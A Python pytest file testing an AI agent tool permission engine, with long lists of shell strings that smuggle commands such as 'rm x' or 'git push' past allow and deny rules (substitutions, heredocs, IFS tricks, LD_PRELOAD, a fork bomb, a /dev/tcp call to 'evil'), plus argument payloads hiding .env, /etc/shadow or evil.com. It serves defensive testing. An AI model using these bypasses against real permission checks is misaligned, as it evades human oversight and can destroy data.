"""Ways around permission rules: a permission never covers them, a refusal does, or is unsure."""

import json

import pytest

from refold.reducers.permissions.conditions import ToolCall
from refold.reducers.permissions.paths import Folders
from refold.reducers.permissions.rules import Order, PermissionRule, decide

PERMITTED = [
    PermissionRule(effect="permit", tool="Bash", command=command)
    for command in (
        ("git", "status"), ("ls",), ("echo",), ("cat",), ("env",), ("find",), ("xargs",), ("bash",), "npm run *",
    )
]  # fmt: skip
SMUGGLED = [
    'echo `echo \\`rm x\\``',
    'echo ${PWD%$(rm x)}',
    'echo "${x:-\'$(rm x)\'}"',
    "echo $(('a[$(rm x)]'))",
    "[[ -v 'a[$(rm x)]' ]] || echo",
    'echo ${PWD,,$(rm x)}',
    "(( 'a[$(rm x)]' )); echo",
    "echo ${a['$(rm x)']}",
    "[[ 'a[$(rm x)]' -eq 1 ]] || git status",
    "[ -v 'a[$(rm x)]' ] || echo",
    'cat <<EOF\n`rm x`\nEOF',
    "test -v 'a[$(rm x)]'",
    "[ -v 'a[$(rm x)]' ]",
    'echo ${x@P}',
    'echo "${x:-`rm x`}"',
    'cat < /dev/tcp/evil/80',
    'git sta\\\ntus; rm x',
    "bash -euo pipefail -c 'rm x'",
    'sh /dev/stdin <<E\nrm x\nE',
    "printf -v 'a[$(rm x)]' x",
    "git status\nrm x", "git status;rm x", "git status&rm x", "git status||rm x", "ls `rm x`", "ls $(rm x)",
    "ls <(rm x)", "echo x>y", "echo x>>~/.bashrc", "cat <<E\n$(rm x)\nE", "cat <<'E' | sh\nrm x\nE",
    "IFS=_;a=rm_x;$a", "ls${IFS}x;rm x", "alias ls=rm; ls x", "ls() { rm x; }; ls",
    "function git { rm x; }; git status", "PATH=/tmp:$PATH git status", "LD_PRELOAD=/tmp/x.so ls",
    "GIT_PAGER=sh git status", "git -c core.pager=sh status", "git -C /x push",
    "git status --output=/etc/x | tee /x", "env rm x", "find . -exec rm {} +", "xargs rm < x",
    "ls | xargs rm", "bash -c 'rm x'", 'bash -c "$X"', "echo ${x:=$(rm x)}", "echo $((a[$(rm x)]))",
    "ls\\\n;rm x", "ls #x\nrm x", "ls \\#;rm x", 'echo \'a\' "$(rm x)"', "[[ $(rm x) ]]", "test $(rm x)",
    "if ls; then rm x; fi", "case x in x) rm x;; esac", "{ ls; rm x; }", "(ls; rm x)", "! rm x",
    "coproc rm x", "time rm x", "exec rm x", "command rm x", "builtin eval 'rm x'", "eval rm x", ". ./x",
    "source x", "trap 'rm x' EXIT; ls", "ls; }; rm x", "npm run a\nrm x", "npm run $(rm x)",
    "npm run a; rm x", "npm run a && rm x", "\xa0ls", "ls\r\nrm x", "ls\x0brm x", "echo x | cat - > y",
    "cat x | tee y", "ls 2>&1 >y", "ls &>y", "ls >|y", "ls <>y", "exec 3>y; ls", "echo x >&2 >y",
    "cat < x > y", "ls; set -x", "export A=1; ls", "cd /x; ls", "git status ; :(){ :|:& };:", "x=1 ls",
    "declare x=$(rm x)", "ls {a,b}; rm x", "$'rm' x", '"rm" x', "r\\m x", "~/rm x", "*/rm x", "${a}rm x",
    "ls *; $b", "printf -v x y", "read x; ls", "mapfile -C 'rm x' x", "ls @(a|b)", "[ -v 'a[$(rm x)]' ]",
    'ls "${a[$(rm x)]}"', "echo {1..$(rm x)}", "cat<<<$(rm x)", "ls 1>&y", " ls > /dev/null; rm x",
]  # fmt: skip
"""Scripts that run more than these rules permit, or may."""
PUSHES = [
    'echo `echo \\`git push\\``',
    'echo ${PWD%$(git push)}',
    'echo "${x:-\'$(git push)\'}"',
    "echo $(('a[$(git push)]'))",
    "[[ -v 'a[$(git push)]' ]] || echo",
    'echo ${PWD,,$(git push)}',
    "(( 'a[$(git push)]' )); echo",
    "echo ${a['$(git push)']}",
    "[[ 'a[$(git push)]' -eq 1 ]] || git status",
    "[ -v 'a[$(git push)]' ] || echo",
    'git pu\\\nsh',
    'git --attr-source HEAD push',
    'git -c alias.p=push p',
    'csh -c "git push"',
    'rbash -c "git push"',
    'mapfile -C "git push" -c 1',
    'toybox git push',
    'gosu me git push',
    'setarch x86_64 git push',
    'poetry run git push',
    'uv run git push',
    'npx git push',
    'fd -x git push',
    'git submodule foreach "git push"',
    'git bisect run git push',
    'git rebase -x "git push" main',
    'tmux new -d "git push"',
    'screen -dm git push',
    'hyperfine "git push"',
    'caffeinate git push',
    'find . -exec true \\; $X',
    'bash -euo pipefail -c "git push"',
    'bash -o pipefail -c "git push"',
    'bash /dev/stdin <<< "git push"',
    'echo git push | sh /dev/stdin',
    'bash -s a <<< "git push"',
    'compgen -C "git push"',
    "git push", "git  push", "git\tpush", "git \\\npush", "git pu\\sh", "git 'push'", 'git "push"',
    "g''it push", "'git' push", "$'git' push", "git $'push'", "git -C x push", "git --git-dir=x push",
    "git -c a=b push", "git --no-pager push", "git -P push", "/usr/bin/git push", "../git push",
    "command git push", "env git push", "env -i git push", "env -u X git push", "env A=1 B=2 git push",
    "sudo git push", "sudo -u x git push", "doas git push", "nohup git push", "nice -n 5 git push",
    "timeout 5s git push", "timeout -s KILL 5 git push", "stdbuf -oL git push", "setsid git push",
    "xargs git push < x", "echo | xargs -n1 git push", "xargs -I{} git push {}",
    "find . -exec git push \\;", "find . -execdir git push {} +", "bash -c 'git push'",
    "bash -lc 'git push'", "sh -ec 'git push'", 'bash -c "git push"', "bash <<< 'git push'",
    "bash <<E\ngit push\nE", "echo git push | sh", "eval git push", "eval 'git push'", "$(echo git push)",
    "`echo git` push", "X=git; $X push", "alias gp='git push'; gp", "gp() { git push; }; gp", "(git push)",
    "{ git push; }", "! git push", "if true; then git push; fi", "while git push; do :; done",
    "for i in 1; do git push; done", "case x in x) git push;; esac", "true && git push", "true || git push",
    "true | git push", "git push &", "git push 2>&1", "git push > x", "< x git push", "> x git push",
    "A=1 git push", "coproc git push", "time git push", "exec git push", "trap 'git push' EXIT",
    "cat <(git push)", "echo $(git push)", "echo `git push`", 'echo "$(git push)"',
    "cat <<E\n$(git push)\nE", "git {push,}", "{git,push}", "git pus?", "git p*", "${IFS}git push",
    "git${IFS}push", "git$IFS''push", "echo 'x' #\ngit push", "git push;", "git push\r",
    "parallel git push ::: a", "watch git push", "script -c 'git push'", "su -c 'git push'",
    "git --exec-path=x push", "ionice git push", "chronic git push", "flock x git push", "strace git push",
    "unshare git push", "chroot / git push", "runuser -c 'git push'", "systemd-run git push",
    "busybox sh -c 'git push'", "zsh -c 'git push'", "fish -c 'git push'", "pwsh -c 'git push'",
    "cmd /c git push", "git\x0bpush", "git\x0cpush", "git\xa0push", "gi\u200bt push", "[[ $(git push) ]]",
    "((x=$(git push)))", "echo ${x:-$(git push)}", "declare x=$(git push)", "export x=`git push`",
    'printf \'%s\' "$(git push)"', "select x in 1; do git push; done", "until git push; do :; done",
    "function f { git push; }; f", 'git "$(echo push)"', "git -- push", "git push --dry-run",
]  # fmt: skip
"""Scripts that run `git push`, or may."""
DATA = [
    'git commit -m "$(cat <<\'EOF\'\ngit push\n\nIt\'s `git push`\nEOF\n)"',
    "cat > f.sh <<'EOF'\n#!/bin/bash\ngit push\nEOF",
    'true # && git push',
    'echo a \\\n  git push',
    "git stash push", "echo git push", "echo 'git push'", "# git push", "ls git push",
    "cat <<'E'\ngit push\nE", "grep 'git push' x", "git log --grep 'git push'", "git commit -m 'git push'",
]  # fmt: skip
"""Scripts in which it is only a text, or another command."""


@pytest.mark.parametrize("order", ["strictest", "first", "last"])
@pytest.mark.parametrize("script", SMUGGLED)
def test_nothing_is_smuggled_past_a_permission(script: str, order: Order) -> None:
    """A script is permitted only if all of it is."""
    call = ToolCall("Bash", json.dumps({"command": script}))
    assert "permit" != decide(PERMITTED, order, "ask", call).effect


@pytest.mark.parametrize("script", PUSHES)
def test_a_refused_command_is_found_or_unknown(script: str) -> None:
    """However it is written, a rule on its words refuses it or is unsure."""
    rules = [PermissionRule(effect="refuse", tool="Bash", command=("git", "push"))]
    found = decide(rules, "strictest", "permit", ToolCall("Bash", json.dumps({"command": script})))
    assert found.effect in ("refuse", "unknown")


@pytest.mark.parametrize("script", DATA)
def test_a_text_is_no_command(script: str) -> None:
    """The words of a command in a text, a comment or another command refuse nothing."""
    for command in (("git", "push"), "git push *"):
        rules = [PermissionRule(effect="refuse", tool="Bash", command=command)]
        call = ToolCall("Bash", json.dumps({"command": script}))
        assert "permit" == decide(rules, "strictest", "permit", call).effect


@pytest.mark.parametrize(
    ("rule", "arguments", "expected"),
    [
        ({"command": ("git", "push")}, {"command": "ls", "cmd": "git push"}, "refuse"),
        ({"command": ("git", "push")}, {"command": "", "script": "git push"}, "refuse"),
        ({"command": ("git", "push")}, {"command": ["bash", "-lc", "git push", 1]}, "refuse"),
        ({"command": ("git", "push")}, {"command": {"a": "git push"}}, "unknown"),
        ({"path": (".env",)}, {"file_path": "README", "path": ".env"}, "refuse"),
        ({"path": (".env",)}, {"file_path": {"x": ".env"}}, "unknown"),
        ({"path": (".env",)}, {"paths": [[".env"]]}, "unknown"),
        ({"path": (".env",)}, {"input": "*** Begin Patch\n*** Update File: .env\n@@\n-a\n+b"}, "refuse"),
        ({"path": (".env",)}, {"patchText": "*** Move to: .env"}, "refuse"),
        ({"host": ("evil.com",)}, {"url": "http://good.com", "uri": "http://evil.com"}, "refuse"),
        ({"host": ("evil.com",)}, {"url": {"a": "http://evil.com"}}, "unknown"),
        ({"host": ("evil.com",)}, {"url": "https:evil.com/x"}, "refuse"),
        ({"host": ("evil.com",)}, {"url": "http:\\evil.com"}, "refuse"),
        ({"host": ("evil.com",)}, {"url": "blob:http://evil.com/x"}, "refuse"),
        ({"host": ("evil.com",)}, {"url": "http://evil%2ecom"}, "unknown"),
        ({"host": ("evil.com",)}, {"url": "http://good.com/http://evil.com"}, "permit"),
        ({"host": ("evil.com",)}, {"url": "mailto:a@evil.com"}, "permit"),
    ],
)
def test_arguments_that_hide_a_value(
    rule: dict[str, tuple[str, ...]], arguments: dict[str, object], expected: str
) -> None:
    """All the usual fields are read; a value of another shape is unknown."""
    rules = [PermissionRule(effect="refuse", **rule)]  # type: ignore[arg-type]
    assert expected == decide(rules, "strictest", "permit", ToolCall("X", json.dumps(arguments))).effect


def test_a_permission_covers_all_paths() -> None:
    """A second path in another field is not permitted with the first."""
    rules = [PermissionRule(effect="permit", path=("./**",))]
    for arguments in ({"file_path": "./a", "path": "/etc/shadow"}, {"path": "./a", "paths": ["/etc"]}):
        call = ToolCall("X", json.dumps(arguments), Folders("/w", "/h"))
        assert "ask" == decide(rules, "strictest", "ask", call).effect
